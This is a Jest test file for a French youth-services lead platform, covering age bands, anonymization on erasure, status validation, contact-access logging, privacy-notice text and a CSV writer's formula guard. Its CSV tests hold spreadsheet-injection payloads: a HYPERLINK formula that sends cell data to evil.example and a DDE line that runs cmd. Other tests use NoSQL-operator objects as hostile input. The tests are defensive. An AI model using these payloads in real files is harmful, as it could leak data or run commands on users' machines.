import { describe, expect, it } from '@jest/globals'

import { ageBandOf } from '../../src/domain/leads/ageBand'
import { anonymizedData } from '../../src/domain/leads/anonymizedData'
import { leadChangeError, type LeadChange } from '../../src/domain/leads/leadStatus'
import { parseCsv, toCsv as writeCsv } from '../../src/domain/shared/csv'
import { statTableToCsv as toCsv } from '../../src/domain/statistics/table'
import { contactAccessEntries, type ReturnedLead } from '../../src/plugins/boussole/accessLog/contactAccessEntries'
import { accessLogSentence, erasureNotice } from '../../src/plugins/boussole/retention/privacyNotice'

describe('ageBandOf: the only trace of the age kept after erasure', () => {
  const CASES: [unknown, string | null][] = [
    [{ age: 15 }, 'age_15_17'],
    [{ age: 17 }, 'age_15_17'],
    [{ age: 18 }, 'age_18_25'],
    [{ age: 25 }, 'age_18_25'],
    [{ age: 26 }, 'age_26_30'],
    [{ age: 30 }, 'age_26_30'],
    [{ age: 14 }, null],
    [{ age: 31 }, null],
    [{ age: 19.5 }, null],
    [{ age: '19' }, null],
    [{ situation: 'lyceen' }, null],
    [null, null],
    [[19], null],
    ['age=19', null],
  ]
  it.each(CASES)('%j → %s', (answers, band) => {
    expect(ageBandOf(answers)).toBe(band)
  })
})

describe('anonymizedData: what the erasure writes', () => {
  const lead = {
    answers: { age: 22, situation: 'demandeur_emploi', handicap: 'oui' },
    ageBand: null,
    history: [{ at: '2026-11-24T09:00:00.000Z', to: 'nouvelle' as const, note: 'Appelé le 06…' }],
    timeline: { takenAt: '2026-11-25T09:00:00.000Z' },
  }
  it('erases contact, answers, profile, comments and notes; keeps an age band and the timeline', () => {
    expect(anonymizedData(lead as any, 'withdrawal', new Date('2026-12-01T10:00:00.000Z'))).toEqual({
      contact: { email: null, phone: null },
      answers: null,
      profile: [],
      ageBand: 'age_18_25',
      closingComment: null,
      history: [{ at: '2026-11-24T09:00:00.000Z', to: 'nouvelle', note: null }],
      idempotencyKey: null,
      requestFingerprint: null,
      timeline: { takenAt: '2026-11-25T09:00:00.000Z', anonymizedAt: '2026-12-01T10:00:00.000Z', anonymizedReason: 'withdrawal' },
    })
  })
  it('applied again (answers already gone), keeps the band computed the first time', () => {
    expect(anonymizedData({ ...lead, answers: null, ageBand: 'age_26_30' } as any, 'retention', new Date()).ageBand).toBe('age_26_30')
  })
})

describe('leadChangeError: whatever an API caller sends', () => {
  const CASES: [string, LeadChange, string | null][] = [
    ['unknown status', { from: 'nouvelle', to: 'nimportequoi' as any }, 'status'],
    ['status as an object', { from: 'nouvelle', to: { $ne: null } as any }, 'status'],
    ['status as a number', { from: 'en_cours', to: 3 as any }, 'status'],
    ['comment as a number', { from: 'nouvelle', to: 'cloturee', outcome: 'autre', comment: 5 as any }, 'closingComment'],
    ['blank comment', { from: 'nouvelle', to: 'cloturee', outcome: 'autre', comment: '  ' }, 'closingComment'],
    ['allowed', { from: 'nouvelle', to: 'en_cours' }, null],
  ]
  it.each(CASES)('%s', (_, change, field) => {
    const error = leadChangeError(change)
    expect(error?.field ?? null).toBe(field)
    if (error) expect(error.message).toMatch(/^[A-ZÀ-Ü].+\.$/)
  })
})

describe('contactAccessEntries: one entry per territory, for the leads that carried contact details', () => {
  const at = new Date('2026-11-24T09:00:00.000Z')
  const user = { id: 7, email: 'pro@example.org' }
  const lead = (id: number, territory: unknown, contact: ReturnedLead['contact']): ReturnedLead => ({ id, territory, contact })
  const CASES: [string, ReturnedLead[], { leads: number[]; territory: number | null }[]][] = [
    ['one lead', [lead(1, 3, { email: 'a@example.org', phone: null })], [{ leads: [1], territory: 3 }]],
    ['phone only, territory populated', [lead(2, { id: 4, name: 'Lot' }, { email: null, phone: '+33612345678' })], [{ leads: [2], territory: 4 }]],
    ['erased or not selected: nothing', [lead(3, 3, { email: null, phone: null }), lead(4, 3, undefined), lead(5, 3, null)], []],
    [
      'two territories',
      [lead(6, 3, { email: 'b@example.org' }), lead(7, 4, { email: 'c@example.org' }), lead(8, 3, { phone: '+33600000000' })],
      [
        { leads: [6, 8], territory: 3 },
        { leads: [7], territory: 4 },
      ],
    ],
    ['contact that is not text', [lead(9, 3, { email: { $ne: null } as any })], []],
  ]
  it.each(CASES)('%s', (_, leads, expected) => {
    expect(contactAccessEntries(leads, 'list', user, at)).toEqual(
      expected.map((entry) => ({ ...entry, at: '2026-11-24T09:00:00.000Z', user: 7, userEmail: 'pro@example.org', action: 'list' })),
    )
  })
})

describe('statistics CSV: the platform’s one CSV writer, formula guard included', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(A1:A9)', '\t=1+1']
  it.each(HOSTILE)('an organisation named %j comes out as text', (name) => {
    const csv = toCsv({ id: 't', title: 'T', columns: ['Organisme', 'Demandes'], rows: [[name, 3]] })
    const [row] = parseCsv(csv).records.map((record) => record.cells)
    expect(row).toEqual([`'${name}`, '3'])
    expect(csv).toBe(writeCsv(['Organisme', 'Demandes'], [[name, 3]]))
  })
  it('numbers stay numbers, negative ones included', () => {
    expect(parseCsv(toCsv({ id: 't', title: 'T', columns: ['Écart'], rows: [[-2], [0.5]] })).records.map((record) => record.cells)).toEqual([['-2'], ['0.5']])
  })
})

describe('privacy notice: the durations of the settings', () => {
  const retention = { monthsAfterClosing: 7, monthsAfterCreationIfOpen: 11, contactAccessLogMonths: 5 }
  it('says what is erased, what is kept and for how long', () => {
    const text = erasureNotice(retention)
    expect(text).toContain('tes coordonnées (courriel, téléphone), tes réponses au questionnaire et les notes des professionnels sont effacées tout de suite')
    expect(text).toContain('7 mois après la clôture de ta demande (11 mois après son envoi si elle n’est jamais clôturée)')
    expect(text).toContain('le thème, le territoire, la commune, les dates, l’état de la demande, la suite donnée')
    expect(text).toContain('tranche d’âge (15-17, 18-25 ou 26-30 ans)')
    expect(accessLogSentence(retention)).toContain('gardé 5 mois')
  })
})
